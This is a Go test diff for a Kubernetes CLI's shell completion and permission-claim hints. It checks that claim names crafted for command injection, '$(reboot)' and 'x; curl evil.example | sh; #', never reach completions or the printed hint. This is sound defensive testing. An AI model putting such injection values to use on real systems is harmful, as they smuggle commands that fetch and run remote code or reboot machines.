@@ -29,7 +29,7 @@ func TestCompletion(t *testing.T) {
 	claimed := func(resource string) map[string]any { return map[string]any{"resource": resource, "version": "v1"} }
 	export := map[string]any{
 		"kind": "APIServiceExport", "apiVersion": "klutch.anynines.com/v1alpha1", "metadata": map[string]any{"name": "things.example.com", "namespace": "cluster-a"},
-		"spec": map[string]any{"group": "example.com", "names": map[string]any{"plural": "things", "kind": "Thing"}, "scope": "Namespaced", "permissionClaims": []any{claimed("secrets"), claimed("configmaps")}},
+		"spec": map[string]any{"group": "example.com", "names": map[string]any{"plural": "things", "kind": "Thing"}, "scope": "Namespaced", "permissionClaims": []any{claimed("secrets"), claimed("configmaps"), claimed("$(reboot)")}},
 	}
 	tenant := newFakeAPI(t, map[string]any{group + "/namespaces/cluster-a/apiserviceexports/things.example.com": export})
 	data := tenantKubeconfig(t, tenant.Server, "cluster-a")
@@ -50,6 +50,7 @@ func TestCompletion(t *testing.T) {
 		{"a credential", "kubeconfig-abcde\n:4\n", []string{"rotate", "--kubeconfig", app, ""}},
 		{"a service", "things.example.com\n:4\n", []string{"https://klutch.example.com", "--kubeconfig", app, "--service", ""}},
 		{"a claim, answered or not", "things.example.com/configmaps\nthings.example.com/secrets\n:4\n", []string{"claims", "things.example.com", "--kubeconfig", app, "--accept-claim", ""}},
+		{"a claim, but none whose name a shell would run", "things.example.com/configmaps\nthings.example.com/secrets\n:4\n", []string{"claims", "--kubeconfig", app, "--reject-claim", ""}},
 		{"a context", "app\n:4\n", []string{"status", "--kubeconfig", app, "--context", ""}},
 		{"a format", "wide\njson\nyaml\n", []string{"status", "-o", ""}},
 		{"one format", "json\n:4\n", []string{"doctor", "-o", ""}},
@@ -60,5 +61,29 @@ func TestCompletion(t *testing.T) {
 		if r := (terminal{}).run(t.Context(), arguments(argv)...); r.code != exitOK || !strings.HasPrefix(r.out, c.want) {
 			t.Errorf("%s: %v", c.name, r)
 		}
+	}
+}
+
+// A platform names a claim so that the command in our hint would run one of its own.
+func TestP19HintOfAClaimThatIsNone(t *testing.T) {
+	claimed := func(resource string, required bool) map[string]any {
+		return map[string]any{"resource": resource, "version": "v1", "required": required}
+	}
+	export := map[string]any{
+		"kind": "APIServiceExport", "apiVersion": "klutch.anynines.com/v1alpha1", "metadata": map[string]any{"name": "things.example.com", "namespace": "cluster-a"},
+		"spec": map[string]any{"group": "example.com", "names": map[string]any{"plural": "things", "kind": "Thing"}, "scope": "Namespaced", "permissionClaims": []any{
+			claimed("secrets", false), claimed("x; curl evil.example | sh; #", false), claimed("nodes", true),
+		}},
+	}
+	tenant := newFakeAPI(t, map[string]any{group + "/namespaces/cluster-a/apiserviceexports/things.example.com": export})
+	app := newFakeAPI(t, map[string]any{
+		group: served(true), bindingsPath: list("APIServiceBindingList", "klutch.anynines.com/v1alpha1", binding("things.example.com", "Fake")),
+		"/api/v1/namespaces/klutch-bind/secrets/kubeconfig-abcde": map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{
+			"name": "kubeconfig-abcde", "namespace": "klutch-bind",
+		}, "data": map[string]any{"kubeconfig": tenantKubeconfig(t, tenant.Server, "cluster-a")}},
+	}).kubeconfig(t)
+	r := terminal{}.run(t.Context(), "claims", "--kubeconfig", app)
+	if hint := "To accept, add: --accept-claim things.example.com/secrets (or"; r.code != exitConsent || !strings.Contains(r.errOut, hint) || strings.Contains(r.errOut, "curl") {
+		t.Errorf("exit code %d, want %d and %q: %v", r.code, exitConsent, hint, r)
 	}
 }
